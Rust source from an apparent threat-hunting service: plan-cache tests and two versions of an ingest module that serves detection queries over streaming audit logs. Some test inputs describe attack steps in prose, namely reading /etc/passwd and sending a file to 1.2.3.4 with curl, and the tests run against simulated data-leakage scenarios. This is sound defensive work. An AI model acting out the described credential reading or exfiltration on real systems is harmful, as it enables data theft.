                .unwrap_or_else(PoisonError::into_inner)
                .len(),
            evictions: self.evictions.load(Ordering::Relaxed),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_tbql::parser::FIG2_TBQL;

    #[test]
    fn normalization_collapses_whitespace() {
        let a = normalize_tbql("proc p   read\n\tfile f\nreturn p");
        let b = normalize_tbql("proc p read file f return p");
        assert_eq!(a, b);
        assert_eq!(normalize_tbql("  proc p  "), "proc p");
    }

    #[test]
    fn normalization_preserves_string_literal_contents() {
        // Whitespace inside quoted filters is significant (paths may
        // contain spaces): these are different queries, not variants.
        let one = normalize_tbql("proc p[\"%My Documents%\"] read file f return p");
        let two = normalize_tbql("proc p[\"%My  Documents%\"] read file f return p");
        assert_ne!(one, two);
        assert!(one.contains("%My Documents%"));
        // An escaped quote does not terminate the literal.
        let esc = normalize_tbql("proc p[\"a\\\"b  c\"]   read file f return p");
        assert!(esc.contains("a\\\"b  c"));
        assert!(esc.ends_with("read file f return p"));
    }

    #[test]
    fn plans_compile_once_per_normalized_text() {
        let cache = PlanCache::new();
        let (p1, hit1) = cache.plan(FIG2_TBQL).unwrap();
        let (p2, hit2) = cache
            .plan(&format!("  {}  ", FIG2_TBQL.replace('\n', "  \n")))
            .unwrap();
        assert!(!hit1);
        assert!(hit2, "formatting variant must hit the cache");
        assert!(Arc::ptr_eq(&p1, &p2));
        let s = cache.stats();
        assert_eq!((s.hits, s.misses, s.plans), (1, 1, 1));
        assert!((s.hit_ratio() - 0.5).abs() < 1e-9);
    }

    #[test]
    fn bad_queries_error_and_are_not_cached() {
        let cache = PlanCache::new();
        assert!(cache.plan("syntactically broken").is_err());
        let s = cache.stats();
        assert_eq!((s.plans, s.rejections), (0, 0));
    }

    #[test]
    fn infeasible_queries_cached_as_rejections() {
        let cache = PlanCache::new();
        let registry = Arc::new(threatraptor_obs::Registry::new());
        cache.attach_metrics(&registry);
        // Cyclic `before` ordering: E001, rejected at compile time.
        let bad = "proc p read file f as e1 proc p write file g as e2 \
                   with e1 before e2, e2 before e1 return p";
        let first = cache.plan(bad).unwrap_err();
        assert!(matches!(first, EngineError::Infeasible(_)), "{first}");
        let s = cache.stats();
        assert_eq!((s.plans, s.rejections, s.rejection_hits), (0, 1, 0));

        // A formatting variant of the same query is refused from cache.
        let again = cache
            .plan(&format!("  {}  ", bad.replace(' ', "\t")))
            .unwrap_err();
        assert_eq!(first, again, "cached rejection must be identical");
        let s = cache.stats();
        assert_eq!(s.rejection_hits, 1);
        // Rejection traffic never pollutes the plan hit/miss counters.
        assert_eq!((s.hits, s.misses), (0, 0));

        let snap = registry.snapshot();
        assert_eq!(snap.counter("plan_cache_rejections_total"), Some(1));
        assert_eq!(snap.counter("plan_cache_rejection_hits_total"), Some(1));
        // The compile stage span was cancelled on the rejection path:
        // the series may exist (registered at span creation) but holds
        // no samples.
        let compile_samples = snap
            .histogram("hunt_stage_ns", &[("stage", "compile")])
            .map(|h| h.count)
            .unwrap_or(0);
        assert_eq!(compile_samples, 0);
    }

    #[test]
    fn cached_plans_carry_lint_warnings() {
        let cache = PlanCache::new();
        // `f` is mentioned once, unfiltered, and not returned: W001.
        let (plan, _) = cache.plan("proc p read file f return p").unwrap();
        assert!(!plan.lint.has_errors());
        assert!(
            plan.lint.diagnostics.iter().any(|d| d.code == "W001"),
            "{:?}",
            plan.lint.diagnostics
        );
    }

    #[test]
    fn report_synthesis_is_memoized() {
        let cache = PlanCache::new();
        let report = threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT;
        let a = cache.synthesize_report(report).unwrap();
        let b = cache.synthesize_report(report).unwrap();
        assert_eq!(a, b);
        assert_eq!(cache.stats().reports, 1);
        // Failures are memoized too.
        let err = cache.synthesize_report("Nothing interesting happened.");
        assert!(err.is_err());
        assert_eq!(cache.stats().reports, 2);
    }

    #[test]
    fn plan_map_evicts_least_recently_used() {
        let cache = PlanCache::with_capacities(2, 2);
        let q = |path: &str| format!("proc p[\"%{path}%\"] read file f return p");
        cache.plan(&q("/bin/a")).unwrap();
        cache.plan(&q("/bin/b")).unwrap();
        // Touch /bin/a so /bin/b is the LRU victim.
        cache.plan(&q("/bin/a")).unwrap();
        cache.plan(&q("/bin/c")).unwrap();
        let s = cache.stats();
        assert_eq!(s.plans, 2, "capacity must hold");
        assert_eq!(s.evictions, 1);
        // /bin/a survived, /bin/b did not.
        let (_, hit_a) = cache.plan(&q("/bin/a")).unwrap();
        assert!(hit_a, "recently used plan must survive eviction");
        let (_, hit_b) = cache.plan(&q("/bin/b")).unwrap();
        assert!(!hit_b, "LRU plan must have been evicted");
    }

    #[test]
    fn synthesis_memo_evicts_least_recently_used() {
        let cache = PlanCache::with_capacities(8, 2);
        let reports = [
            "Attackers read /etc/passwd with /bin/cat.",
            "Attackers wrote /tmp/x with /bin/dd.",
            "Attackers sent /tmp/y to 1.2.3.4 with /usr/bin/curl.",
        ];
        for r in &reports {
            let _ = cache.synthesize_report(r);
        }
        let s = cache.stats();
        assert_eq!(s.reports, 2, "memo capacity must hold");
        assert!(s.evictions >= 1);
    }

    #[test]
    fn report_keys_are_content_hashes() {
        let a = ReportKey::of("the same text");
        let b = ReportKey::of("the same text");
        let c = ReportKey::of("different text!");
        assert_eq!(a, b);
        assert_ne!(a, c);
        // Sanity: keys are fixed-size regardless of report length.
        assert_eq!(
            std::mem::size_of::<ReportKey>(),
            std::mem::size_of::<[u64; 2]>() + std::mem::size_of::<usize>()
        );
    }

    #[test]
    fn attached_metrics_mirror_cache_stats() {
        let registry = Arc::new(Registry::new());
        let cache = PlanCache::with_capacities(2, 2);
        cache.attach_metrics(&registry);
        let q = |path: &str| format!("proc p[\"%{path}%\"] read file f return p");
        cache.plan(&q("/bin/a")).unwrap();
        cache.plan(&q("/bin/a")).unwrap();
        cache.plan(&q("/bin/b")).unwrap();
        cache.plan(&q("/bin/c")).unwrap();
        let _ = cache.synthesize_report("Attackers read /etc/passwd with /bin/cat.");
        // A failing compile pipeline cancels its stage span: the parse
        // series below must count only the successful misses.
        assert!(cache.plan("syntactically broken").is_err());

        let s = cache.stats();
        let snap = registry.snapshot();
        assert_eq!(snap.counter("plan_cache_hits_total"), Some(s.hits as u64));
        assert_eq!(
            snap.counter("plan_cache_misses_total"),
            Some(s.misses as u64)
        );
        assert_eq!(
            snap.counter("plan_cache_evictions_total"),
            Some(s.evictions as u64)
        );
        assert!(s.evictions >= 1, "capacity 2 with 3 plans must evict");
        // Compile-pipeline stages were traced on the miss path only.
        for stage in ["parse", "analyze", "compile"] {
            let h = snap
                .histogram("hunt_stage_ns", &[("stage", stage)])
                .unwrap_or_else(|| panic!("missing {stage} series"));
            assert_eq!(h.count, s.misses as u64, "{stage} per miss");
        }
        let synth = snap
            .histogram("hunt_stage_ns", &[("stage", "synthesize")])
            .unwrap();
        assert_eq!(synth.count, 1);
    }

    #[test]
    fn zero_capacity_clamps_to_one() {
        let cache = PlanCache::with_capacities(0, 0);
        cache.plan(FIG2_TBQL).unwrap();
        assert_eq!(cache.stats().plans, 1);
    }
}
