//! The ingest service: a thread-safe front-end over a live
//! [`StreamingStore`].
//!
//! Collectors push parsed [`LogChunk`]s in with
//! [`IngestService::append`]; analysts hunt *while ingestion is in
//! flight* — every hunt runs against an immutable snapshot taken at hunt
//! start, so appends never block on hunts and hunts never observe a
//! half-applied batch. Standing queries attach with
//! [`IngestService::hunt_follow`] and are re-evaluated against new data
//! on each [`IngestService::poll`].
//!
//! Locking discipline: appends and seals take the write lock for the
//! (incremental, open-window-bounded) reduction step only. Snapshots
//! hold the read lock just long enough to clone Arc handles of the
//! sealed shards and materialize the open window's event list; the
//! expensive part — indexing the open window into a queryable shard —
//! runs outside any lock. Lock poisoning is recovered from, never
//! propagated — the availability-over-purity tradeoff of a long-lived
//! server: a panic that poisons this lock can only come from the write
//! path itself (read guards do not poison a `RwLock`), i.e. from an
//! internal invariant violation inside append/seal. Recovering there
//! risks continuing on a partially applied batch; propagating would
//! instead panic every future request on every thread, forever. The
//! mitigations: append validates its input (the entity-id sequence
//! assert) *before* mutating anything, and the mutation itself is plain
//! buffer bookkeeping with no unwind paths in normal operation.
//!
//! Change notification: every append and seal bumps the stream's epoch
//! (a lock-free counter shared via
//! [`threatraptor_storage::StreamingStore::epoch_handle`]) and wakes
//! anything blocked in [`IngestService::wait_epoch_newer`] — the hook an
//! event-driven dispatcher ([`crate::server::HuntServer`]) hangs off so
//! standing queries are driven by ingest events instead of explicit
//! polls.

use crate::cache::{CacheStats, PlanCache};
use crate::follow::{FollowDelta, FollowHunt};
use crate::job::ServiceError;
use std::time::{Duration, Instant};
use threatraptor_audit::parser::LogChunk;
use threatraptor_engine::{ExecMode, HuntResult, ShardedEngine};
use threatraptor_obs::{MetricsSnapshot, Registry, TraceSink};
use threatraptor_storage::cpr::ReductionStats;
use threatraptor_storage::{AppendOutcome, SealPolicy, ShardedStore, StreamingStore};
use threatraptor_sync::atomic::{AtomicU64, Ordering};
use threatraptor_sync::{Arc, Condvar, Mutex, PoisonError, RwLock};

/// Construction parameters for an [`IngestService`].
#[derive(Debug, Clone, Copy)]
pub struct IngestConfig {
    /// Apply Causality-Preserved Reduction at the ingest frontier.
    pub cpr: bool,
    /// When to freeze the open window into an immutable shard.
    pub policy: SealPolicy,
    /// Execution strategy for hunts.
    pub mode: ExecMode,
    /// Per-hunt shard fan-out threads.
    pub shard_threads: usize,
}

impl Default for IngestConfig {
    fn default() -> IngestConfig {
        IngestConfig {
            cpr: true,
            policy: SealPolicy::events(4_096),
            mode: ExecMode::Scheduled,
            shard_threads: 1,
        }
    }
}

impl IngestConfig {
    /// Default config with the given seal policy.
    pub fn with_policy(policy: SealPolicy) -> IngestConfig {
        IngestConfig {
            policy,
            ..IngestConfig::default()
        }
    }

    /// Disables CPR at the frontier.
    pub fn no_cpr(mut self) -> IngestConfig {
        self.cpr = false;
        self
    }
}

/// A point-in-time description of the stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct IngestStatus {
    /// Sealed (immutable) shards so far.
    pub sealed_shards: usize,
    /// Events currently in the open window (after reduction).
    pub open_events: usize,
    /// Total stored events (sealed + open).
    pub total_events: usize,
    /// Entities registered so far.
    pub entities: usize,
    /// Stream-global reduction statistics.
    pub reduction: ReductionStats,
    /// Change counter (bumps on every append/seal).
    pub epoch: u64,
}

/// A live, continuously queryable hunt service: appendable store plus the
/// shared plan cache.
///
/// ```
/// use threatraptor_audit::LogFeed;
/// use threatraptor_audit::sim::scenario::ScenarioBuilder;
/// use threatraptor_service::{IngestConfig, IngestService};
///
/// let scenario = ScenarioBuilder::new().seed(42).target_events(2_000).build();
/// let service = IngestService::new(IngestConfig::default());
/// for chunk in LogFeed::by_events(&scenario.raw, 500) {
///     service.append(&chunk.unwrap());
///     // Hunts are allowed at any point mid-ingest.
///     let _ = service.hunt(threatraptor_tbql::parser::FIG2_TBQL);
/// }
/// assert_eq!(service.status().total_events, service.snapshot().event_count());
/// ```
#[derive(Debug)]
pub struct IngestService {
    stream: RwLock<StreamingStore>,
    cache: Arc<PlanCache>,
    config: IngestConfig,
    /// Lock-free mirror of the stream's epoch counter
    /// ([`StreamingStore::epoch_handle`]): change detection without the
    /// stream lock.
    epoch: Arc<AtomicU64>,
    /// Wakeup gate for epoch waiters. The condvar's mutex guards nothing
    /// — the epoch atomic is the actual state — but notifying under it
    /// closes the check-then-wait race in [`IngestService::wait_epoch_newer`].
    gate: Mutex<()>,
    gate_cond: Condvar,
    /// This service's metric registry: the stream, the plan cache, and
    /// every hunt/follow running through this service record here.
    /// Per-instance (not the process-global registry) so co-hosted
    /// services — per-tenant deployments — keep separate telemetry.
    registry: Arc<Registry>,
    /// `serve_stage_ns{stage=ingest_append|seal|snapshot_build}`.
    serve_trace: TraceSink,
    /// `hunt_stage_ns{stage=scan|propagate|join|project|...}` — shared
    /// family with the cache's parse/analyze/compile/synthesize spans.
    hunt_trace: TraceSink,
}

impl IngestService {
    /// An empty service.
    pub fn new(config: IngestConfig) -> IngestService {
        Self::with_cache(config, Arc::new(PlanCache::new()))
    }

    /// An empty service sharing an existing plan cache (so a server's
    /// ad-hoc jobs and its standing queries compile each query once).
    pub fn with_cache(config: IngestConfig, cache: Arc<PlanCache>) -> IngestService {
        let registry = Arc::new(Registry::new());
        let mut stream = StreamingStore::new(config.cpr, config.policy);
        stream.attach_metrics(&registry);
        cache.attach_metrics(&registry);
        let epoch = stream.epoch_handle();
        IngestService {
            stream: RwLock::new(stream),
            cache,
            config,
            epoch,
            gate: Mutex::new(()),
            gate_cond: Condvar::new(),
            serve_trace: TraceSink::new(Arc::clone(&registry), "serve_stage_ns"),
            hunt_trace: TraceSink::new(Arc::clone(&registry), "hunt_stage_ns"),
            registry,
        }
    }

    /// This service's metric registry. Attach additional components
    /// here (e.g. a server's worker pool) so one snapshot covers the
    /// whole instance.
    pub fn registry(&self) -> &Arc<Registry> {
        &self.registry
    }

    /// A point-in-time snapshot of every metric recorded by this
    /// service: storage counters, cache counters, hunt/serve stage
    /// timings, follow-hunt totals.
    pub fn metrics(&self) -> MetricsSnapshot {
        self.registry.snapshot()
    }

    /// Appends one parsed chunk, auto-sealing under the policy, and wakes
    /// epoch waiters.
    pub fn append(&self, chunk: &LogChunk) -> AppendOutcome {
        let span = self.serve_trace.span("ingest_append");
        let outcome = self
            .stream
            .write()
            .unwrap_or_else(PoisonError::into_inner)
            .append(chunk);
        drop(span);
        self.notify();
        outcome
    }

    /// Manually freezes the open window's stable prefix into an immutable
    /// shard. Returns whether anything was sealed.
    pub fn seal(&self) -> bool {
        let span = self.serve_trace.span("seal");
        let sealed = self
            .stream
            .write()
            .unwrap_or_else(PoisonError::into_inner)
            .seal()
            .is_some();
        drop(span);
        if sealed {
            self.notify();
        }
        sealed
    }

    /// An immutable snapshot of everything appended so far (sealed shards
    /// shared by reference, open window materialized). The read lock is
    /// held only for the cheap parts extraction; indexing the open
    /// window happens after it is released.
    pub fn snapshot(&self) -> ShardedStore {
        let span = self.serve_trace.span("snapshot_build");
        let parts = self
            .stream
            .read()
            .unwrap_or_else(PoisonError::into_inner)
            .snapshot_parts();
        let store = parts.build();
        drop(span);
        store
    }

    /// Current stream epoch — one atomic load, no lock. Differs between
    /// two observations iff an append or seal happened in between.
    pub fn epoch(&self) -> u64 {
        // ordering: Acquire pairs with the stream's Release bumps — an
        // observed epoch guarantees its chunk is visible in snapshots.
        self.epoch.load(Ordering::Acquire)
    }

    /// Blocks until the stream epoch advances past `last`, `timeout`
    /// elapses, or [`IngestService::poke`] wakes the waiter; returns the
    /// epoch current at wakeup (callers loop — spurious wakeups return
    /// an unchanged epoch). This is the push half of event-driven
    /// standing queries: a dispatcher parks here instead of polling.
    pub fn wait_epoch_newer(&self, last: u64, timeout: Duration) -> u64 {
        let deadline = Instant::now() + timeout;
        let mut guard = self.gate.lock().unwrap_or_else(PoisonError::into_inner);
        loop {
            let current = self.epoch();
            if current != last {
                return current;
            }
            let now = Instant::now();
            if now >= deadline {
                return current;
            }
            let (g, _) = self
                .gate_cond
                .wait_timeout(guard, deadline - now)
                .unwrap_or_else(PoisonError::into_inner);
            guard = g;
            // Poked without an epoch change: report the (unchanged)
            // epoch so the caller can re-check its own exit conditions.
            if self.epoch() == last {
                return last;
            }
        }
    }

    /// Wakes every [`IngestService::wait_epoch_newer`] waiter without an
    /// epoch change — used on shutdown so dispatchers can re-check their
    /// exit flag instead of sleeping out their timeout.
    pub fn poke(&self) {
        let _guard = self.gate.lock().unwrap_or_else(PoisonError::into_inner);
        self.gate_cond.notify_all();
    }

    fn notify(&self) {
        // Lock-then-notify (empty critical section) so a waiter that just
        // re-checked the epoch cannot miss the wakeup.
        let _guard = self.gate.lock().unwrap_or_else(PoisonError::into_inner);
        self.gate_cond.notify_all();
    }

    /// Hunts a TBQL query against a fresh snapshot, through the plan
    /// cache.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, ServiceError> {
        let (plan, _) = self.cache.plan(tbql).map_err(ServiceError::from)?;
        let snapshot = self.snapshot();
        let result = ShardedEngine::with_threads(&snapshot, self.config.shard_threads)
            .execute(&plan.compiled, self.config.mode)
            .map_err(ServiceError::from)?;
        result.stats.record_stages(&self.hunt_trace);
        Ok(result)
    }

    /// Opens a follow-mode hunt: the query is compiled once (through the
    /// cache) and evaluated against everything ingested so far; each
    /// subsequent [`IngestService::poll`] re-evaluates it against a fresh
    /// snapshot and yields only the newly appeared matches.
    pub fn hunt_follow(&self, tbql: &str) -> Result<(FollowHunt, FollowDelta), ServiceError> {
        let (plan, _) = self.cache.plan(tbql).map_err(ServiceError::from)?;
        let mut hunt = FollowHunt::new(plan, self.config.mode, self.config.shard_threads);
        hunt.attach_metrics(&self.registry);
        let delta = hunt.poll(&self.snapshot())?;
        Ok((hunt, delta))
    }

    /// Polls a follow-mode hunt against the current stream state. Free
    /// when nothing was appended since the last poll.
    pub fn poll(&self, hunt: &mut FollowHunt) -> Result<FollowDelta, ServiceError> {
        hunt.poll(&self.snapshot())
    }

    /// Current stream state.
    pub fn status(&self) -> IngestStatus {
        let stream = self.stream.read().unwrap_or_else(PoisonError::into_inner);
        IngestStatus {
            sealed_shards: stream.sealed_count(),
            open_events: stream.open_len(),
            total_events: stream.event_count(),
            entities: stream.entities().len(),
            reduction: stream.reduction(),
            epoch: stream.epoch(),
        }
    }

    /// Plan/synthesis cache counters.
    pub fn cache_stats(&self) -> CacheStats {
        self.cache.stats()
    }

    /// The shared plan cache (standing queries and ad-hoc jobs resolve
    /// through the same one).
    pub fn cache(&self) -> &Arc<PlanCache> {
        &self.cache
    }

    /// The service configuration.
    pub fn config(&self) -> &IngestConfig {
        &self.config
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_audit::LogFeed;
    use threatraptor_storage::{AuditStore, ShardedStore};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn scenario() -> threatraptor_audit::sim::scenario::Scenario {
        ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build()
    }

    #[test]
    fn replayed_feed_matches_batch_ingestion() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(500)));
        for chunk in LogFeed::by_events(&sc.raw, 300) {
            service.append(&chunk.unwrap());
        }
        let snapshot = service.snapshot();
        let batch = AuditStore::ingest(&sc.log, true);
        assert_eq!(snapshot.event_count(), batch.event_count());
        assert_eq!(snapshot.reduction(), batch.reduction);

        let got = service.hunt(FIG2_TBQL).unwrap();
        let want = threatraptor_engine::Engine::new(&batch)
            .hunt(FIG2_TBQL)
            .unwrap();
        assert_eq!(got.rows, want.rows);
    }

    #[test]
    fn hunts_mid_ingest_see_consistent_prefixes() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(400)));
        let mut counts = Vec::new();
        for chunk in LogFeed::by_events(&sc.raw, 800) {
            service.append(&chunk.unwrap());
            let r = service.hunt(FIG2_TBQL).unwrap();
            counts.push(r.matches.len());
        }
        // The attack eventually appears and stays found.
        assert!(*counts.last().unwrap() > 0);
        let status = service.status();
        assert!(status.sealed_shards > 0);
        assert_eq!(status.total_events, status.reduction.after,);
    }

    #[test]
    fn appends_proceed_while_a_snapshot_is_held() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::default());
        let mut feed = LogFeed::by_events(&sc.raw, 1_000);
        service.append(&feed.next().unwrap().unwrap());
        let held: ShardedStore = service.snapshot();
        let held_count = held.event_count();
        for chunk in feed {
            service.append(&chunk.unwrap());
        }
        // The held snapshot is unaffected; new snapshots see everything.
        assert_eq!(held.event_count(), held_count);
        assert!(service.snapshot().event_count() > held_count);
    }

    #[test]
    fn follow_hunt_fires_when_the_attack_streams_in() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(400)));
        let (mut hunt, initial) = service.hunt_follow(FIG2_TBQL).unwrap();
        assert!(initial.is_empty(), "nothing ingested yet");

        let mut fired = false;
        for chunk in LogFeed::by_events(&sc.raw, 700) {
            service.append(&chunk.unwrap());
            let delta = service.poll(&mut hunt).unwrap();
            fired |= !delta.is_empty();
        }
        assert!(fired, "the streamed attack must fire the standing query");
        // A poll with no new data is free.
        let idle = service.poll(&mut hunt).unwrap();
        assert!(idle.unchanged);
        // And the plan was compiled exactly once.
        assert_eq!(service.cache_stats().misses, 1);
    }

    #[test]
    fn epoch_waiters_wake_on_append_and_poke() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::default());
        let mut feed = LogFeed::by_events(&sc.raw, 500);
        let first = feed.next().unwrap().unwrap();

        // A waiter parked on the current epoch wakes when an append bumps
        // it — the no-explicit-poll signal path.
        let e0 = service.epoch();
        let woke = std::thread::scope(|scope| {
            let svc = &service;
            let waiter =
                scope.spawn(move || svc.wait_epoch_newer(e0, std::time::Duration::from_secs(30)));
            std::thread::sleep(std::time::Duration::from_millis(20));
            svc.append(&first);
            waiter.join().unwrap()
        });
        assert!(woke > e0, "append must wake the epoch waiter");
        assert_eq!(service.epoch(), service.status().epoch);

        // A poke wakes the waiter without an epoch change (the shutdown
        // path), returning the unchanged epoch well before the timeout.
        let e1 = service.epoch();
        let t0 = std::time::Instant::now();
        let woke = std::thread::scope(|scope| {
            let svc = &service;
            let waiter =
                scope.spawn(move || svc.wait_epoch_newer(e1, std::time::Duration::from_secs(30)));
            std::thread::sleep(std::time::Duration::from_millis(20));
            svc.poke();
            waiter.join().unwrap()
        });
        assert_eq!(woke, e1);
        assert!(t0.elapsed() < std::time::Duration::from_secs(10));
    }

    #[test]
    fn poisoned_stream_lock_is_recovered_not_propagated() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::default());
        let chunks: Vec<_> = LogFeed::by_events(&sc.raw, 1_000)
            .map(|c| c.unwrap())
            .collect();
        service.append(&chunks[0]);
        let before = service.status().total_events;

        // A worker panicking while holding the write lock poisons it.
        std::thread::scope(|scope| {
            let svc = &service;
            let doomed = scope.spawn(move || {
                let _guard = svc.stream.write().unwrap();
                panic!("simulated hunt-worker crash");
            });
            assert!(doomed.join().is_err(), "the worker must have panicked");
        });

        // The service keeps serving: appends, snapshots, and status all
        // recover the guard instead of propagating the poison.
        for chunk in &chunks[1..] {
            service.append(chunk);
        }
        assert!(service.status().total_events > before);
        assert!(!service.hunt(FIG2_TBQL).unwrap().is_empty());
    }

    #[test]
    fn concurrent_appends_and_hunts_are_safe() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(300)));
        let chunks: Vec<_> = LogFeed::by_events(&sc.raw, 250)
            .map(|c| c.unwrap())
            .collect();
        std::thread::scope(|scope| {
            let svc = &service;
            let writer = scope.spawn(move || {
                for chunk in &chunks {
                    svc.append(chunk);
                }
            });
            for _ in 0..8 {
                // Hunts interleave with appends; each must see a
                // consistent snapshot and never error.
                let r = svc.hunt(FIG2_TBQL).unwrap();
                let snap = svc.snapshot();
                assert!(r.matches.len() <= snap.event_count().max(1));
            }
            writer.join().unwrap();
        });
        // After the dust settles, the full attack is found.
        assert!(!service.hunt(FIG2_TBQL).unwrap().is_empty());
    }
}
