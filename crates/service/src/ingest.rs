//! The ingest service: a thread-safe front-end over a live
//! [`StreamingStore`].
//!
//! Collectors push parsed [`LogChunk`]s in with
//! [`IngestService::append`]; analysts hunt *while ingestion is in
//! flight* — every hunt runs against an immutable snapshot taken at hunt
//! start, so appends never block on hunts and hunts never observe a
//! half-applied batch. Standing queries attach with
//! [`IngestService::hunt_follow`] and are re-evaluated against new data
//! on each [`IngestService::poll`].
//!
//! Locking discipline: appends and seals take the write lock for the
//! (incremental, open-window-bounded) reduction step only. Snapshots
//! hold the read lock just long enough to clone Arc handles of the
//! sealed shards and materialize the open window's event list; the
//! expensive part — indexing the open window into a queryable shard —
//! runs outside any lock.

use crate::cache::{CacheStats, PlanCache};
use crate::follow::{FollowDelta, FollowHunt};
use crate::job::ServiceError;
use std::sync::RwLock;
use threatraptor_audit::parser::LogChunk;
use threatraptor_engine::{ExecMode, HuntResult, ShardedEngine};
use threatraptor_storage::cpr::ReductionStats;
use threatraptor_storage::{AppendOutcome, SealPolicy, ShardedStore, StreamingStore};

/// Construction parameters for an [`IngestService`].
#[derive(Debug, Clone, Copy)]
pub struct IngestConfig {
    /// Apply Causality-Preserved Reduction at the ingest frontier.
    pub cpr: bool,
    /// When to freeze the open window into an immutable shard.
    pub policy: SealPolicy,
    /// Execution strategy for hunts.
    pub mode: ExecMode,
    /// Per-hunt shard fan-out threads.
    pub shard_threads: usize,
}

impl Default for IngestConfig {
    fn default() -> IngestConfig {
        IngestConfig {
            cpr: true,
            policy: SealPolicy::events(4_096),
            mode: ExecMode::Scheduled,
            shard_threads: 1,
        }
    }
}

impl IngestConfig {
    /// Default config with the given seal policy.
    pub fn with_policy(policy: SealPolicy) -> IngestConfig {
        IngestConfig {
            policy,
            ..IngestConfig::default()
        }
    }

    /// Disables CPR at the frontier.
    pub fn no_cpr(mut self) -> IngestConfig {
        self.cpr = false;
        self
    }
}

/// A point-in-time description of the stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct IngestStatus {
    /// Sealed (immutable) shards so far.
    pub sealed_shards: usize,
    /// Events currently in the open window (after reduction).
    pub open_events: usize,
    /// Total stored events (sealed + open).
    pub total_events: usize,
    /// Entities registered so far.
    pub entities: usize,
    /// Stream-global reduction statistics.
    pub reduction: ReductionStats,
    /// Change counter (bumps on every append/seal).
    pub epoch: u64,
}

/// A live, continuously queryable hunt service: appendable store plus the
/// shared plan cache.
///
/// ```
/// use threatraptor_audit::LogFeed;
/// use threatraptor_audit::sim::scenario::ScenarioBuilder;
/// use threatraptor_service::{IngestConfig, IngestService};
///
/// let scenario = ScenarioBuilder::new().seed(42).target_events(2_000).build();
/// let service = IngestService::new(IngestConfig::default());
/// for chunk in LogFeed::by_events(&scenario.raw, 500) {
///     service.append(&chunk.unwrap());
///     // Hunts are allowed at any point mid-ingest.
///     let _ = service.hunt(threatraptor_tbql::parser::FIG2_TBQL);
/// }
/// assert_eq!(service.status().total_events, service.snapshot().event_count());
/// ```
#[derive(Debug)]
pub struct IngestService {
    stream: RwLock<StreamingStore>,
    cache: PlanCache,
    config: IngestConfig,
}

impl IngestService {
    /// An empty service.
    pub fn new(config: IngestConfig) -> IngestService {
        IngestService {
            stream: RwLock::new(StreamingStore::new(config.cpr, config.policy)),
            cache: PlanCache::new(),
            config,
        }
    }

    /// Appends one parsed chunk, auto-sealing under the policy.
    pub fn append(&self, chunk: &LogChunk) -> AppendOutcome {
        self.stream
            .write()
            .expect("stream lock poisoned")
            .append(chunk)
    }

    /// Manually freezes the open window's stable prefix into an immutable
    /// shard. Returns whether anything was sealed.
    pub fn seal(&self) -> bool {
        self.stream
            .write()
            .expect("stream lock poisoned")
            .seal()
            .is_some()
    }

    /// An immutable snapshot of everything appended so far (sealed shards
    /// shared by reference, open window materialized). The read lock is
    /// held only for the cheap parts extraction; indexing the open
    /// window happens after it is released.
    pub fn snapshot(&self) -> ShardedStore {
        let parts = self
            .stream
            .read()
            .expect("stream lock poisoned")
            .snapshot_parts();
        parts.build()
    }

    /// Hunts a TBQL query against a fresh snapshot, through the plan
    /// cache.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, ServiceError> {
        let (plan, _) = self.cache.plan(tbql).map_err(ServiceError::Engine)?;
        let snapshot = self.snapshot();
        ShardedEngine::with_threads(&snapshot, self.config.shard_threads)
            .execute(&plan.compiled, self.config.mode)
            .map_err(ServiceError::Engine)
    }

    /// Opens a follow-mode hunt: the query is compiled once (through the
    /// cache) and evaluated against everything ingested so far; each
    /// subsequent [`IngestService::poll`] re-evaluates it against a fresh
    /// snapshot and yields only the newly appeared matches.
    pub fn hunt_follow(&self, tbql: &str) -> Result<(FollowHunt, FollowDelta), ServiceError> {
        let (plan, _) = self.cache.plan(tbql).map_err(ServiceError::Engine)?;
        let mut hunt = FollowHunt::new(plan, self.config.mode, self.config.shard_threads);
        let delta = hunt.poll(&self.snapshot())?;
        Ok((hunt, delta))
    }

    /// Polls a follow-mode hunt against the current stream state. Free
    /// when nothing was appended since the last poll.
    pub fn poll(&self, hunt: &mut FollowHunt) -> Result<FollowDelta, ServiceError> {
        hunt.poll(&self.snapshot())
    }

    /// Current stream state.
    pub fn status(&self) -> IngestStatus {
        let stream = self.stream.read().expect("stream lock poisoned");
        IngestStatus {
            sealed_shards: stream.sealed_count(),
            open_events: stream.open_len(),
            total_events: stream.event_count(),
            entities: stream.entities().len(),
            reduction: stream.reduction(),
            epoch: stream.epoch(),
        }
    }

    /// Plan/synthesis cache counters.
    pub fn cache_stats(&self) -> CacheStats {
        self.cache.stats()
    }

    /// The service configuration.
    pub fn config(&self) -> &IngestConfig {
        &self.config
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_audit::LogFeed;
    use threatraptor_storage::{AuditStore, ShardedStore};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn scenario() -> threatraptor_audit::sim::scenario::Scenario {
        ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build()
    }

    #[test]
    fn replayed_feed_matches_batch_ingestion() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(500)));
        for chunk in LogFeed::by_events(&sc.raw, 300) {
            service.append(&chunk.unwrap());
        }
        let snapshot = service.snapshot();
        let batch = AuditStore::ingest(&sc.log, true);
        assert_eq!(snapshot.event_count(), batch.event_count());
